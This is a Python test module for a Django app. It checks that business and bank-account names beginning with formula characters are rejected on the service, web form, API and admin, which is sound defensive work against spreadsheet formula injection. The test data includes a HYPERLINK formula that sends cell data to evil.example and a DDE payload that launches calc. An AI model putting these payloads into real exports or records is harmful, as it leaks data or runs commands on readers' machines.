"""A business's names and the name on its bank account refuse a leading formula
character (=, +, -, @), on the service, the web form, the API and the admin; the
code is ``formula_start`` (docs/spreadsheets.md "Formulas in cells")."""

import json

import pytest
from django.test import Client

from purei.core.errors import ValidationFailed
from purei.core.models import AuditEntry
from purei.members.models import Member
from purei.members.services import MemberDetails, member_create, member_update
from purei.members.tests.test_member_services import member_data
from purei.members.tests.test_members_admin import admin_post

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
NAME_FIELDS = ["legal_name", "trading_name", "bank_account_name"]


def client_for(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def admin(staff_user) -> Client:
    staff_user.is_superuser = True
    staff_user.save(update_fields=["is_superuser"])
    return client_for(staff_user)


@pytest.mark.parametrize("field", NAME_FIELDS)
@pytest.mark.parametrize("value", [HYPERLINK, "+64 Kai", "-Kai", "@home", "  =1+1"])
def test_adding_a_business_refuses_a_name_starting_like_a_formula(
    customer, field, value
):
    # when
    with pytest.raises(ValidationFailed) as caught:
        member_create(
            actor=customer, details=MemberDetails(**member_data(**{field: value}))
        )
    # then
    assert caught.value.code == "formula_start"
    assert caught.value.field == field
    assert caught.value.errors[field] == [
        "Start with a letter or a digit: spreadsheet programs run text that starts "
        "with =, +, - or @ as a formula."
    ]
    assert not Member.objects.exists()


def test_changing_the_bank_account_name_to_a_formula_changes_nothing(
    member_a_owner, member_a
):
    # given
    Member.objects.filter(pk=member_a.pk).update(bank_account_name="Member A")
    # when
    with pytest.raises(ValidationFailed) as caught:
        member_update(
            actor=member_a_owner,
            member=member_a,
            details=MemberDetails(bank_account_name=HYPERLINK),
        )
    # then
    assert caught.value.code == "formula_start"
    member_a.refresh_from_db()
    assert member_a.bank_account_name == "Member A"
    assert not AuditEntry.objects.exists()


def test_the_code_names_the_first_error(customer):
    # when a field before the name is wrong too
    with pytest.raises(ValidationFailed) as caught:
        member_create(
            actor=customer,
            details=MemberDetails(**member_data(legal_name="", trading_name="=Kai")),
        )
    # then
    assert caught.value.code == "invalid_member"
    assert list(caught.value.errors) == ["legal_name", "trading_name"]


def test_names_with_formula_characters_later_on_are_fine(customer):
    member = member_create(
        actor=customer,
        details=MemberDetails(
            **member_data(trading_name="Kai = Love", bank_account_name="A+B Ltd")
        ),
    )
    assert member.trading_name == "Kai = Love"


def test_the_web_form_shows_the_refusal_on_the_field(member_a_owner_user, member_a):
    # when
    response = client_for(member_a_owner_user).post(
        "/manage/members/member-a/",
        {
            "legal_name": "Member A Limited",
            "trading_name": "@Member A",
            "in_trade": "on",
            "email": "a@example.nz",
        },
    )
    # then
    assert response.status_code == 422
    body = response.content.decode()
    assert 'id="id_trading_name_error"' in body
    assert "spreadsheet programs run text" in body
    member_a.refresh_from_db()
    assert member_a.trading_name != "@Member A"


def test_the_api_answers_422_with_the_code(member_a_owner_user, member_a):
    # when
    response = client_for(member_a_owner_user).patch(
        "/api/v1/members/member-a",
        data=json.dumps({"bank_account_name": HYPERLINK}),
        content_type="application/json",
    )
    # then
    assert response.status_code == 422
    error = response.json()
    assert (error["code"], error["field"]) == ("formula_start", "bank_account_name")
    assert not AuditEntry.objects.exists()


def test_the_api_refuses_a_new_business_named_like_a_formula(customer_user):
    response = client_for(customer_user).post(
        "/api/v1/members",
        data=json.dumps({"legal_name": "=1+1", "in_trade": True}),
        content_type="application/json",
    )
    assert response.status_code == 422
    assert response.json()["code"] == "formula_start"
    assert not Member.objects.exists()


@pytest.mark.parametrize("field", NAME_FIELDS)
def test_the_admin_refuses_a_name_starting_like_a_formula(admin, member_a, field):
    # when
    response = admin.post(
        f"/admin/members/member/{member_a.pk}/change/",
        admin_post(member_a, **{field: "+cmd|' /C calc'!A0"}),
    )
    # then
    assert response.status_code == 200
    assert "spreadsheet programs run text" in response.content.decode()
    member_a.refresh_from_db()
    assert not getattr(member_a, field).startswith("+")
